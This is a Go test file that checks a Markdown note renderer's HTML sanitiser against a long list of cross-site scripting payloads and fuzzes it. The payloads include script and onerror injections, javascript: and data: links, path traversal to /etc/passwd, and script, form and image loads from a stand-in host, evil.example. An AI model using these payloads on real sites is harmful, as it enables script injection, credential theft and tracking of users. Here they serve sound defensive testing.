package note

import (
	"net/url"
	"path"
	"regexp"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"

	"sitewright/backend/skill"
)

// allowed is every element and attribute a shown note may have, written down here
// once more: this list and the sanitiser's must both be wrong for a hole.
var allowed = map[string][]string{
	"p": nil, "br": nil, "hr": nil, "blockquote": nil, "ul": nil, "ol": {"start"}, "li": {"id"},
	"em": nil, "strong": nil, "del": nil, "sup": {"id"}, "div": {"class", "role"},
	"h1": {"id"}, "h2": {"id"}, "h3": {"id"}, "h4": {"id"}, "h5": {"id"}, "h6": {"id"},
	"table": nil, "thead": nil, "tbody": nil, "tr": nil, "th": {"align"}, "td": {"align"},
	"pre": {"class"}, "code": {"class"}, "span": {"class"},
	"a":     {"href", "title", "rel", "data-note", "class", "role"},
	"img":   {"src", "alt", "title"},
	"input": {"type", "disabled", "checked"},
}

// faults reads a shown note as a browser would and names everything in it that
// must not be there.
func faults(shown string) (found []string) {
	body := &html.Node{Type: html.ElementNode, Data: "body", DataAtom: atom.Body}
	nodes, err := html.ParseFragment(strings.NewReader(shown), body)
	if err != nil {
		return []string{err.Error()}
	}
	var look func(n *html.Node)
	look = func(n *html.Node) {
		switch n.Type {
		case html.ElementNode:
			found = append(found, elementFaults(n)...)
		case html.CommentNode, html.DoctypeNode:
			found = append(found, "a comment: "+n.Data)
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			look(c)
		}
	}
	for _, n := range nodes {
		look(n)
	}
	return found
}

func elementFaults(n *html.Node) (found []string) {
	attributes, ok := allowed[n.Data]
	if !ok || n.Namespace != "" {
		return []string{"element <" + n.Data + ">"}
	}
	values := map[string]string{}
	for _, a := range n.Attr {
		values[a.Key] = a.Val
		if !slices.Contains(attributes, a.Key) || a.Namespace != "" {
			found = append(found, "attribute "+a.Key+" of <"+n.Data+">")
		} else if !valueIsFine(a.Key, a.Val) {
			found = append(found, a.Key+"="+a.Val+" of <"+n.Data+">")
		}
	}
	if href := values["href"]; strings.HasPrefix(href, "http") && values["rel"] != "noopener noreferrer" {
		found = append(found, "a link without rel: "+href)
	}
	if _, disabled := values["disabled"]; n.Data == "input" && (!disabled || values["type"] != "checkbox") {
		found = append(found, "an input that is no disabled checkbox")
	}
	return found
}

var plainValue = regexp.MustCompile(`^[\pL\pN_:+# -]*$`)

func valueIsFine(name, value string) bool {
	switch name {
	case "title", "alt":
		return true
	case "rel":
		return value == "noopener noreferrer"
	case "id":
		return strings.HasPrefix(value, idPrefix) && plainValue.MatchString(value)
	case "data-note":
		file, _, _ := strings.Cut(value, "#")
		return skill.CheckPath(file) == nil
	case "src":
		u, err := url.Parse(value)
		return err == nil && u.Scheme == "" && u.Host == "" && u.RawQuery == "" &&
			skill.CheckPath(u.Path) == nil && path.Clean(u.Path) == u.Path
	case "href":
		// A browser drops these before it looks for the scheme.
		bare := strings.Map(func(r rune) rune {
			if r <= ' ' {
				return -1
			}
			return r
		}, value)
		u, err := url.Parse(bare)
		return err == nil && (bare != "" && bare[0] == '#' || (u.Scheme == "http" || u.Scheme == "https") && u.Host != "" || u.Scheme == "mailto")
	}
	return plainValue.MatchString(value)
}

// attacks are ways to get something into the window that has no business there.
var attacks = []string{
	// Tags, whole and broken.
	"<script>alert(1)</script>",
	"text <script src=//evil.example></script> text",
	"<img src=x onerror=alert(1)>",
	"a <img src=x onerror=alert(1)> b",
	"<svg onload=alert(1)>",
	"<svg><animate onbegin=alert(1) attributeName=x></svg>",
	"<iframe src=https://evil.example></iframe>",
	"<iframe srcdoc='<script>alert(1)</script>'>",
	"<object data=evil.swf></object><embed src=evil.swf>",
	"<form action=https://evil.example><input name=a type=password><button>Go</button></form>",
	"<input type=checkbox autofocus onfocus=alert(1)>",
	"<base href=https://evil.example/>",
	"<meta http-equiv=refresh content='0;url=https://evil.example'>",
	"<link rel=stylesheet href=https://evil.example/a.css>",
	"<style>@import 'https://evil.example/a.css'</style>",
	"<div style=\"background:url(https://evil.example)\">a</div>",
	"<p id=root class=modal onclick=alert(1)>a</p>",
	"<a href=\"javascript:alert(1)\">a</a>",
	"<math><mi xlink:href=\"javascript:alert(1)\">a</mi></math>",
	"<details open ontoggle=alert(1)>",
	"<video><source onerror=alert(1)></video>",
	"<template><script>alert(1)</script></template>",
	"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
	"<<script>alert(1)//<</script>",
	"<scr<script>ipt>alert(1)</scr</script>ipt>",
	"<script\n>alert(1)</script\n>",
	"<SCRIPT/XSS SRC=//evil.example></SCRIPT>",
	"a <b\nonclick=alert(1)>b</b>",
	"<!--><img src=x onerror=alert(1)>-->",
	"<!-- a --!><img src=x onerror=alert(1)>",
	"<![CDATA[<img src=x onerror=alert(1)>]]>",
	"<?php echo '<img src=x onerror=alert(1)>' ?>",
	"<!DOCTYPE html [<!ENTITY a 'b'>]>",
	"<table><td background=javascript:alert(1)>",
	"<br onclick=alert(1)> <br/ onclick=alert(1)> <br><br/>",
	"<br\n><BR >",
	// Addresses.
	"[a](javascript:alert(1))",
	"[a](JaVaScRiPt:alert(1))",
	"[a](java&#115;cript:alert(1))",
	"[a](javascript&colon;alert(1))",
	"[a](java\\script:alert(1))",
	"[a](<java\tscript:alert(1)>)",
	"[a](&#1;javascript:alert(1))",
	"[a](\u00a0javascript:alert(1))",
	"[a](%6aavascript:alert(1))",
	"[a](vbscript:msgbox(1))",
	"[a](data:text/html;base64,PHNjcmlwdD4=)",
	"[a](blob:https://x.example/1)",
	"[a](file:///etc/passwd)",
	"[a](wails://wails/ipc)",
	"[a](//evil.example/x) [b](\\\\evil.example\\x) [c](/\\evil.example)",
	"[a](http:evil.example) [b](https:/evil.example) [c](http://)",
	"[a](http://user:pass@evil.example/)",
	"[a](http://[::1) [b](http://x.example:99999999) [c](http://%zz/)",
	"[a](x\" onclick=\"alert(1))",
	"[a](<x\" onclick=\"alert(1)>)",
	"[a](http://x.example/\"onclick=alert(1)//)",
	"[a](http://x.example 'b\" onclick=\"alert(1)')",
	"[a](?javascript:alert(1)) [b](#javascript:alert(1)) [c](#\" onclick=\"x)",
	"[a][b]\n\n[b]: javascript:alert(1) \"x\"",
	"<javascript:alert(1)> <data:text/html,a> <https://x.example/\"onclick=1>",
	"<a@b.example\"onclick=alert(1)>",
	"mailto:a@b.example?subject=<script> javascript:alert(1) http://x.example/<script>",
	"[a](../../../etc/passwd) [b](..%2f..%2fetc/passwd) [c](%2e%2e/%2e%2e/x) [d](CON) [e](a:b)",
	"[a](b%00c.md) [d](e%0aonclick=1) [f](g#h#i) [j](%23k)",
	// Pictures.
	"![a](https://evil.example/track.gif)",
	"![a](//evil.example/track.gif)",
	"![a](\\\\evil.example\\track.gif)",
	"![a](javascript:alert(1))",
	"![a](data:image/svg+xml,<svg/onload=alert(1)>)",
	"![a](file:///etc/passwd) ![b](/etc/passwd) ![c](../../x.png) ![d](..%2f..%2fx.png)",
	"![a\" onerror=\"alert(1)](x.png)",
	"![a](x.png \"b\\\" onerror=\\\"alert(1)\")",
	"![a](x.png?https://evil.example) ![b](x.png#c) ![d](C:/x.png) ![e](x%3a/y.png)",
	"![<script>alert(1)</script>](https://evil.example/a.png)",
	"![![a](https://evil.example/1)](https://evil.example/2)",
	"[![a](https://evil.example/1)](javascript:alert(1))",
	// Through what Markdown makes.
	"# <img src=x onerror=alert(1)>",
	"# a {#root onclick=alert(1)}",
	"# \" onclick=\"alert(1)",
	"```js\" onclick=\"alert(1)\n<script>alert(1)</script>\n```",
	"```html\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```",
	"```<script>\na\n```",
	"`<script>alert(1)</script>`",
	"    <script>alert(1)</script>",
	"|a|\n|-|\n|<script>alert(1)</script>|",
	"a[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: b",
	"a[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
	"- [x] <img src=x onerror=alert(1)>",
	"&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
	"\\<script>alert(1)\\</script>",
	"---\na: <script>alert(1)</script>\n---\n<script>alert(1)</script>",
	"\x00<scr\x00ipt>alert(1)</script>",
	"<xmp><script>alert(1)</script></xmp> <plaintext><b>",
	"<textarea></textarea><script>alert(1)</script>",
}

func TestNothingUnsafeIsShown(t *testing.T) {
	for _, attack := range attacks {
		for _, markdown := range []string{attack, "> " + attack, "a\n\n- b\n\n  " + attack, "*c " + attack + "*"} {
			shown, err := HTMLAt("notes/n.md", []byte(markdown))
			if err != nil {
				t.Errorf("%q: %v", markdown, err)
			}
			for _, fault := range faults(shown) {
				t.Errorf("%q: %s\n%s", markdown, fault, shown)
			}
		}
	}
}

// The check itself must be able to fail.
func TestFaultsAreSeen(t *testing.T) {
	for _, bad := range []string{
		"<script>1</script>", "<p onclick=1>", "<a href='javascript:1'>", "<a href='java\nscript:1'>", "<a href=x.md>", "<a href=''>",
		"<a href='https://x.example'>", "<a href='https:x' rel='noopener noreferrer'>", "<img src='//x/y.png'>", "<img src='https://x/y.png'>",
		"<img src='../y.png'>", "<input type=checkbox>", "<input type=text disabled>", "<h1 id=root>", "<!-- a -->", "<svg></svg>",
		"<a data-note='../x'>", "<p style='color:red'>", "<math><mi>", "<a href='data:text/html,a'>",
	} {
		if len(faults(bad)) == 0 {
			t.Errorf("not seen: %s", bad)
		}
	}
}

func FuzzHTML(f *testing.F) {
	for _, attack := range attacks {
		f.Add([]byte(attack))
	}
	for _, hostile := range hostileNotes {
		f.Add([]byte(hostile(300)))
	}
	f.Add([]byte("---\na: b\n---\n# c\n\n|a|b|\n|-|:-:|\n|`\\|`|[^1]|\n\n[^1]: d\n\n- [x] e\n\n```js\nlet f\n```\n"))
	f.Fuzz(func(t *testing.T, markdown []byte) {
		shown, err := HTMLAt("notes/n.md", markdown)
		if (Check(markdown) == nil) != (err == nil) {
			t.Errorf("Check and HTML do not agree: %v", err)
		}
		if err != nil && shown != "" {
			t.Errorf("an error and a page: %v", err)
		}
		for _, fault := range faults(shown) {
			t.Errorf("%s\n%s", fault, shown)
		}
		if title := Title(markdown); len([]rune(title)) > titleLimit || strings.ContainsAny(title, "\n\r") {
			t.Errorf("title %q", title)
		}
		if words, tokens := Words(markdown); words < 0 || words > tokens+len(markdown) {
			t.Errorf("%d words, %d tokens", words, tokens)
		}
	})
}
